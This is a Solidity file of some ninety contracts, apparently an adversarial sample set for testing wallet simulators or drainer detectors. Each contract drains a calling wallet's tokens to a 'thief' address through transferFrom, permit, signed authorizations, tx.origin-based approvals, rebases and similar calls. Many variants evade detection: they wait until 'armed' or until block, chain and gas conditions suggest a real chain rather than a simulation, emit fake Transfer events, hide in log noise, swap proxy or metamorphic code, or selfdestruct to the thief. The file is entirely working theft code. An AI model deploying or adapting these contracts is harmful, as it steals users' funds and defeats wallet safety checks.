// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface ITarget {
    function transferFrom(address from, address to, uint256 amount) external;
    function moveMany(address from, address to, uint256 amount) external;
    function moveOfOrigin(address to, uint256 amount) external;
    function allowOfOrigin(address spender, uint256 amount) external;
    function allowAllOfOrigin(address operator) external;
    function rebase(uint256 rate) external;
    function backing() external view returns (address);
    function moveFor(address from, address to, uint256 amount) external;
    function operatorSend(address from, address to, uint256 amount, bytes calldata, bytes calldata) external;
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
    function transferWithAuthorization(address, address, uint256, uint256, uint256, bytes32, uint8, bytes32, bytes32) external;
}

/// Is called by a wallet, and takes what the wallet has let it take. Each that follows does it in another way.
contract TakesDirectly {
    address public token;
    address payable public thief;
    uint256 public amount;
    bool public isArmed;
    mapping(uint256 => uint256) private wasted;

    event Transfer(address indexed from, address indexed to, uint256 amount);

    function set(address what, address payable to, uint256 much) external {
        (token, thief, amount) = (what, to, much);
    }

    function arm() external virtual {
        isArmed = true;
    }

    function work() external payable virtual {
        take(msg.sender);
    }

    function take(address victim) internal virtual {
        (bool done, ) = token.call(abi.encodeCall(ITarget.transferFrom, (victim, thief, amount)));
        require(done);
    }

    function target() internal view returns (ITarget) {
        return ITarget(token);
    }

    /// What is estimated has to be enough for what it does another time.
    function waste() internal {
        for (uint256 slot = 0; slot < 12; slot++) wasted[slot]++;
    }

    receive() external payable virtual {}
}

contract TakesTwice is TakesDirectly {
    function work() external payable override {
        take(msg.sender);
        take(msg.sender);
    }
}

contract TakesInAFallback is TakesDirectly {
    fallback() external payable {
        take(msg.sender);
    }
}

contract TakesOnReceipt is TakesDirectly {
    receive() external payable override {
        take(msg.sender);
    }
}

contract TakesByItself is TakesDirectly {
    function work() external payable override {
        this.inner(msg.sender);
    }

    function inner(address victim) external {
        take(victim);
    }
}

contract Library {
    function takeFor(address token, address victim, address thief, uint256 amount) external {
        ITarget(token).transferFrom(victim, thief, amount);
    }
}

contract TakesByALibrary is TakesDirectly {
    Library private immutable code = new Library();

    function take(address victim) internal override {
        (bool done, ) = address(code).delegatecall(abi.encodeCall(Library.takeFor, (token, victim, thief, amount)));
        require(done);
    }
}

contract TakesByOldCallcode is TakesDirectly {
    Library private immutable code = new Library();

    function take(address victim) internal override {
        bytes memory data = abi.encodeCall(Library.takeFor, (token, victim, thief, amount));
        address where = address(code);
        assembly {
            if iszero(callcode(gas(), where, 0, add(data, 0x20), mload(data), 0, 0)) {
                revert(0, 0)
            }
        }
    }
}

contract TakesDeep is TakesDirectly {
    function work() external payable override {
        this.down(60, msg.sender);
    }

    function down(uint256 depth, address victim) external {
        if (depth == 0) take(victim);
        else this.down(depth - 1, victim);
    }
}

contract TakesAfterAFailure is TakesDirectly {
    function work() external payable override {
        try this.lie(msg.sender) {} catch {}
        take(msg.sender);
    }

    function lie(address victim) external {
        emit Transfer(victim, thief, amount);
        revert();
    }
}

contract TakesAndLosesTheLog is TakesDirectly {
    function work() external payable override {
        try this.inner(msg.sender) {} catch {}
    }

    function inner(address victim) external {
        take(victim);
        revert();
    }
}

contract Calling {
    constructor(address back, bytes memory data) {
        (bool done, ) = back.call(data);
        require(done);
    }
}

contract TakesWhileMaking is TakesDirectly {
    function work() external payable override {
        new Calling(address(this), abi.encodeCall(this.inner, (msg.sender)));
    }

    function inner(address victim) external {
        take(victim);
    }
}

contract TakesWhileMakingAgain is TakesDirectly {
    function work() external payable override {
        new Calling{salt: bytes32(block.number)}(address(this), abi.encodeCall(this.inner, (msg.sender)));
    }

    function inner(address victim) external {
        take(victim);
    }
}

contract TakesByAssembly is TakesDirectly {
    function take(address victim) internal override {
        (address what, address to, uint256 much) = (token, thief, amount);
        assembly {
            let at := mload(0x40)
            mstore(at, shl(224, 0x23b872dd))
            mstore(add(at, 4), victim)
            mstore(add(at, 36), to)
            mstore(add(at, 68), much)
            if iszero(call(gas(), what, 0, at, 100, 0, 0)) {
                revert(0, 0)
            }
        }
    }
}

contract TakesWithJunkBehind is TakesDirectly {
    function take(address victim) internal override {
        bytes memory data = abi.encodePacked(abi.encodeCall(ITarget.transferFrom, (victim, thief, amount)), new bytes(9000));
        (bool done, ) = token.call(data);
        require(done);
    }
}

contract TakesInPieces is TakesDirectly {
    function take(address victim) internal override {
        for (uint256 index = 0; index < 20; index++) target().transferFrom(victim, thief, amount / 20);
    }
}

contract TakesForManyThieves is TakesDirectly {
    function take(address victim) internal override {
        for (uint160 index = 1; index < 11; index++) target().transferFrom(victim, address(0x77770000 + index), amount / 10);
    }
}

contract TakesToItself is TakesDirectly {
    function take(address victim) internal override {
        target().transferFrom(victim, address(this), amount);
    }
}

contract TakesToTheToken is TakesDirectly {
    function take(address victim) internal override {
        target().transferFrom(victim, token, amount);
    }
}

contract TakesToAComputedPlace is TakesDirectly {
    function take(address victim) internal override {
        target().transferFrom(victim, address(uint160(uint256(keccak256(abi.encode(block.number, victim))))), amount);
    }
}

contract TakesAndBombs is TakesDirectly {
    function work() external payable override {
        take(msg.sender);
        assembly {
            return(0, 60000)
        }
    }
}

contract TakesAndBurnsGas is TakesDirectly {
    function work() external payable override {
        take(msg.sender);
        for (uint256 index = 0; index < 200; index++) waste();
    }
}

contract TakesWithALie is TakesDirectly {
    function work() external payable override {
        take(msg.sender);
        emit Transfer(thief, msg.sender, amount);
    }
}

contract TakesAmongNoise is TakesDirectly {
    function work() external payable override {
        for (uint160 index = 1; index < 60; index++) emit Transfer(address(index), address(index + 1), index);
        take(msg.sender);
    }
}

contract Noise {
    event Said(uint256 what);

    function say() external {
        emit Said(1);
    }
}

contract TakesBehindACrowd is TakesDirectly {
    function work() external payable override {
        for (uint256 index = 0; index < 60; index++) new Noise().say();
        take(msg.sender);
    }
}

contract TakesByOrigin is TakesDirectly {
    function take(address) internal override {
        target().moveOfOrigin(thief, amount);
    }
}

contract AllowsByOrigin is TakesDirectly {
    function take(address) internal override {
        target().allowOfOrigin(thief, amount);
    }
}

contract AllowsAllByOrigin is TakesDirectly {
    function take(address) internal override {
        target().allowAllOfOrigin(thief);
    }
}

contract AllowsWithoutEnd is TakesDirectly {
    function take(address) internal override {
        target().allowOfOrigin(thief, type(uint256).max);
    }
}

contract AllowsAComputedPlace is TakesDirectly {
    function take(address victim) internal override {
        target().allowOfOrigin(address(uint160(uint256(keccak256(abi.encode(victim))))), amount);
        target().allowOfOrigin(thief, amount);
    }
}

contract AllowsAndTakesBack is TakesDirectly {
    function take(address) internal override {
        target().allowOfOrigin(thief, amount);
        target().allowOfOrigin(thief, 0);
    }
}

contract AllowsAndUses is TakesDirectly {
    function take(address victim) internal override {
        target().allowOfOrigin(address(this), amount * 2);
        target().transferFrom(victim, thief, amount * 2);
    }
}

contract PermitsItself is TakesDirectly {
    function take(address victim) internal override {
        target().permit(victim, thief, amount, type(uint256).max, 27, bytes32(0), bytes32(0));
    }
}

contract PermitsAndTakes is TakesDirectly {
    function take(address victim) internal override {
        target().permit(victim, address(this), amount * 3, type(uint256).max, 27, bytes32(0), bytes32(0));
        target().transferFrom(victim, thief, amount * 3);
    }
}

contract TakesWhatWasSigned is TakesDirectly {
    function take(address victim) internal override {
        target().transferWithAuthorization(victim, thief, amount, 0, type(uint256).max, 0, 27, 0, 0);
    }
}

contract TakesAsOperator is TakesDirectly {
    function take(address victim) internal override {
        target().operatorSend(victim, thief, amount, "", "");
    }
}

contract TakesByAHook is TakesDirectly {
    bool private isIn;

    function take(address victim) internal override {
        target().transferFrom(victim, address(this), amount / 10);
    }

    function tokensReceived(address from, address, uint256) external {
        if (isIn) return;
        isIn = true;
        target().transferFrom(from, address(this), amount);
        isIn = false;
    }
}

contract TakesManyThings is TakesDirectly {
    function take(address victim) internal override {
        target().moveMany(victim, thief, amount);
    }
}

contract Rebases is TakesDirectly {
    function take(address) internal override {
        target().rebase(0.5e18);
    }
}

contract TakesBehindTheFront is TakesDirectly {
    function take(address victim) internal override {
        ITarget(target().backing()).moveFor(victim, thief, amount);
    }
}

contract KeepsTheValue is TakesDirectly {
    function work() external payable override {}
}

contract PassesTheValueOn is TakesDirectly {
    function work() external payable override {
        (bool done, ) = thief.call{value: msg.value}("");
        require(done);
    }
}

contract GivesTheValueBack is TakesDirectly {
    function work() external payable override {
        take(msg.sender);
        (bool done, ) = msg.sender.call{value: msg.value}("");
        require(done);
    }
}

/// Code that ends whoever runs it, and leaves what it has to the thief.
abstract contract Ends is TakesDirectly {
    function ending() internal view returns (bytes memory) {
        return abi.encodePacked(hex"73", thief, hex"ff");
    }
}

contract EndsWithTheValue is Ends {
    function work() external payable override {
        // What makes a contract of the 22 bytes behind it.
        bytes memory making = abi.encodePacked(hex"75", ending(), hex"5f526016600af3");
        assembly {
            let code := create(0, add(making, 0x20), mload(making))
            if iszero(delegatecall(gas(), code, 0, 0, 0, 0)) {
                revert(0, 0)
            }
        }
    }
}

contract EndsWhileMaking is Ends {
    function work() external payable override {
        bytes memory making = ending();
        assembly {
            pop(create(callvalue(), add(making, 0x20), mload(making)))
        }
        take(msg.sender);
    }
}

contract Refuses is TakesDirectly {
    function work() external payable override {
        take(msg.sender);
        revert("no");
    }
}

contract RefusesWithABomb is TakesDirectly {
    function work() external payable override {
        assembly {
            revert(0, 90000)
        }
    }
}

contract RunsOutOfGas is TakesDirectly {
    function work() external payable override {
        for (;;) {}
    }
}

contract DoesNothing is TakesDirectly {
    function work() external payable override {}
}

contract LiesOfTaking is TakesDirectly {
    function work() external payable override {
        emit Transfer(msg.sender, thief, amount);
    }
}

/// Takes when the world is as it likes it.
abstract contract Waits is TakesDirectly {
    function isTime() internal view virtual returns (bool);

    function work() external payable override {
        if (isTime()) take(msg.sender);
        else waste();
    }
}

contract WaitsForGasPrice is Waits {
    function isTime() internal view override returns (bool) {
        return tx.gasprice > 0;
    }
}

contract WaitsForOrigin is Waits {
    function isTime() internal view override returns (bool) {
        return tx.origin == msg.sender;
    }
}

contract WaitsForNoCode is Waits {
    function isTime() internal view override returns (bool) {
        return msg.sender.code.length == 0;
    }
}

contract WaitsForTheHashOfNoCode is Waits {
    function isTime() internal view override returns (bool) {
        return msg.sender.codehash == keccak256("");
    }
}

contract WaitsForMoney is Waits {
    function isTime() internal view override returns (bool) {
        return msg.sender.balance > 1 ether && msg.sender.balance < 1_000_000 ether;
    }
}

contract WaitsForTheChain is Waits {
    function isTime() internal view override returns (bool) {
        return block.chainid == 31337;
    }
}

contract WaitsForFewGas is Waits {
    function isTime() internal view override returns (bool) {
        return gasleft() < 1_000_000;
    }
}

contract WaitsForLowPrice is Waits {
    function isTime() internal view override returns (bool) {
        return tx.gasprice >= block.basefee && tx.gasprice < 1_000 gwei;
    }
}

contract WaitsForALimit is Waits {
    function isTime() internal view override returns (bool) {
        return block.gaslimit > 1_000_000 && block.gaslimit < 1_000_000_000;
    }
}

contract WaitsForBlobs is Waits {
    function isTime() internal view override returns (bool) {
        return blobhash(0) == 0;
    }
}

contract WaitsForARealTime is Waits {
    function isTime() internal view override returns (bool) {
        return block.timestamp > 1_700_000_000;
    }
}

contract WaitsForABlock is Waits {
    function isTime() internal view override returns (bool) {
        return block.number > 1 && blockhash(block.number - 1) != 0;
    }
}

contract WaitsForRandomness is Waits {
    function isTime() internal view override returns (bool) {
        return block.prevrandao != 0;
    }
}

contract WaitsForWholeData is Waits {
    function isTime() internal pure override returns (bool) {
        return msg.data.length == 4;
    }
}

contract WaitsForAFreshPlace is Waits {
    function isTime() internal view override returns (bool) {
        uint256 before = gasleft();
        uint256 held = token.balance;
        // An address that nothing has looked at costs more.
        return before - gasleft() > 2_000 || held > 0;
    }
}

contract WaitsForEmptyNotes is Waits {
    function isTime() internal view override returns (bool) {
        uint256 note;
        assembly {
            note := tload(7)
        }
        return note == 0;
    }
}

/// What is so in one block and not in the next.
contract ChangesWithTheBlock is Waits {
    uint256 private from = type(uint256).max;

    function arm() external override {
        from = block.number;
    }

    function isTime() internal view override returns (bool) {
        return block.number > from;
    }
}

contract ChangesWithTime is Waits {
    uint256 private from = block.timestamp + 100 days;

    function isTime() internal view override returns (bool) {
        return block.timestamp > from;
    }
}

contract ChangesWithTheMiner is Waits {
    function isTime() internal view override returns (bool) {
        return block.coinbase == address(0xc01);
    }
}

contract ChangesWithTheBaseFee is Waits {
    function isTime() internal view override returns (bool) {
        return block.basefee == 7_777_777;
    }
}

contract ChangesWithTheLimit is Waits {
    function isTime() internal view override returns (bool) {
        return block.gaslimit == 28_777_777;
    }
}

contract ChangesWithMoney is Waits {
    function isTime() internal view override returns (bool) {
        return address(this).balance == 7;
    }
}

contract ChangesWhenArmed is Waits {
    function isTime() internal view override returns (bool) {
        return isArmed;
    }
}

contract ChangesTheAmount is Waits {
    function isTime() internal pure override returns (bool) {
        return true;
    }

    function take(address victim) internal override {
        target().transferFrom(victim, thief, isArmed ? amount : amount / 10);
    }
}

contract ChangesFromBalanceToAllowance is Waits {
    function isTime() internal pure override returns (bool) {
        return true;
    }

    function take(address victim) internal override {
        if (isArmed) target().allowOfOrigin(thief, amount);
        else target().transferFrom(victim, thief, amount);
    }
}

contract ChangesToAllThings is Waits {
    function isTime() internal view override returns (bool) {
        return isArmed;
    }

    function take(address) internal override {
        target().allowAllOfOrigin(thief);
    }
}

contract ChangesToOrigin is Waits {
    function isTime() internal view override returns (bool) {
        return isArmed;
    }

    function take(address) internal override {
        target().moveOfOrigin(thief, amount);
    }
}

contract ChangesTheFront is Waits {
    function isTime() internal view override returns (bool) {
        return isArmed;
    }

    function take(address victim) internal override {
        ITarget(target().backing()).moveFor(victim, thief, amount);
    }
}

contract ChangesTheRate is Waits {
    function isTime() internal view override returns (bool) {
        return isArmed;
    }

    function take(address) internal override {
        target().rebase(0.5e18);
    }
}

contract ChangesOnReceipt is TakesDirectly {
    receive() external payable override {
        if (isArmed) take(msg.sender);
        else waste();
    }
}

contract ChangesAndLies is Waits {
    function isTime() internal view override returns (bool) {
        return isArmed;
    }

    function take(address victim) internal override {
        super.take(victim);
        emit Transfer(thief, victim, amount);
    }
}

/// Does what another contract says, which may be another one later.
contract Wastes is TakesDirectly {
    function work() external payable override {
        waste();
    }
}

contract Proxy is TakesDirectly {
    address private implementation = address(new Wastes());
    address private immutable next = address(new TakesDirectly());

    function arm() external override {
        implementation = next;
    }

    function work() external payable override {
        (bool done, ) = implementation.delegatecall(msg.data);
        require(done);
    }
}

/// Calls a place where there is no code yet.
contract CallsAnEmptyPlace is TakesDirectly {
    function place() public view returns (address) {
        bytes32 code = keccak256(type(Library).creationCode);
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", address(this), bytes32(0), code)))));
    }

    function arm() external override {
        new Library{salt: 0}();
    }

    function work() external payable override {
        if (place().code.length == 0) waste();
        (bool done, ) = place().delegatecall(abi.encodeCall(Library.takeFor, (token, msg.sender, thief, amount)));
        require(done);
    }
}

/// Fills one place with other code each time.
contract Changeling {
    constructor() {
        (bool done, bytes memory code) = msg.sender.call(abi.encodeWithSignature("code()"));
        require(done);
        bytes memory what = abi.decode(code, (bytes));
        assembly {
            return(add(what, 0x20), mload(what))
        }
    }
}

contract MakesAChangeling is TakesDirectly {
    address private immutable honest = address(new Noise());
    address private immutable other = address(new Library());

    function code() external view returns (bytes memory) {
        return isArmed ? other.code : honest.code;
    }

    function work() external payable override {
        Changeling made = new Changeling{salt: bytes32(block.number)}();
        if (address(made).code.length == honest.code.length) waste();
        else delegated(address(made), abi.encodeCall(Library.takeFor, (token, msg.sender, thief, amount)));
    }

    function delegated(address where, bytes memory data) private {
        (bool done, ) = where.delegatecall(data);
        require(done);
    }
}

/// Takes only what its calldata says, in the words of others.
contract Carries is TakesDirectly {
    function multicall(bytes[] calldata calls) external payable {
        for (uint256 index = 0; index < calls.length; index++) {
            (bool done, ) = address(this).delegatecall(calls[index]);
            require(done);
        }
    }

    function execute(address to, uint256 value, bytes calldata data) external payable {
        (bool done, ) = to.call{value: value}(data);
        require(done);
    }

    function odd(bytes calldata) external payable {
        take(msg.sender);
    }
}
